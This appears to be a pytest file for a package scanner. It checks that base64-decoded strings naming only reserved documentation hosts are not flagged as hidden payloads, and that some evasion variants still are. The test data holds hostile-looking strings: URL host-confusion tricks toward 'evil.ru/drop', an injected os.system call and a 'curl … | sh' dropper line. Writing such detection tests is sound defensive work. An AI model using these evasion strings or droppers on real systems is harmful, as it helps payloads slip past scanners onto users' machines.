"""A decoded test vector naming only documentation hosts is no hidden payload (ADR 0141)."""

from __future__ import annotations

import base64

import pytest

from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.examplehosts import is_example_host, without_example_urls


def _decoded(text: str) -> set[str]:
    blob = base64.urlsafe_b64encode(text.encode()).decode()
    source = f"import base64\nCLAIMS = base64.urlsafe_b64decode('{blob}')\n"
    return {f.rule for f in scan_python("pkg/tests.py", source)}


def test_a_jwt_claim_set_from_rfc_7519_is_not_a_hidden_payload() -> None:
    claims = '{"iss":"joe",\r\n "exp":1300819380,\r\n "http://example.com/is_root":true}'
    assert "hidden-payload" not in _decoded(claims)


@pytest.mark.parametrize(
    "text",
    [
        "http://example.com@evil.ru/drop",  # userinfo: the host is evil.ru
        "http://example.com.evil.ru/drop",  # a reserved name as a subdomain of another
        "http://evil.ru\\@example.com/",  # read as evil.ru/ by clients that take \ for /
        "http://ex%61mple.com/",  # an escaped host is not compared as a reserved one
        "http://localhost:8080/run",  # the host itself is reachable
        "http://collector.test/run",  # development tools resolve .test locally
        "https://example.com/ and import os; os.system('id')",  # code beside the URL
        "curl http://example.com/x | sh",  # a dropper's words beside the URL
        "http://example.com/ http://203.0.113.9.nip.io/p",  # a second URL to a real host
    ],
)
def test_a_real_host_or_code_beside_an_example_url_is_still_a_payload(text: str) -> None:
    assert "hidden-payload" in _decoded(text)


def test_example_hosts_are_the_reserved_names_only() -> None:
    for url in (
        "http://example.com/a",
        "https://www.example.org:8443/",
        "http://api.example.net",
        "http://x.invalid",
        "http://host.example/",
        "HTTP://EXAMPLE.COM./",
    ):
        assert is_example_host(url), url
    for url in (
        "http://example.co/",
        "http://notexample.com/",
        "http://example.com.evil.ru/",
        "http://test/",
        "http://service.test/",  # resolved locally by development tools
        "http://[::1/",
        "http:///path",
    ):
        assert not is_example_host(url), url
    assert (
        without_example_urls("a http://example.com/x b http://evil.ru/") == "a  b http://evil.ru/"
    )
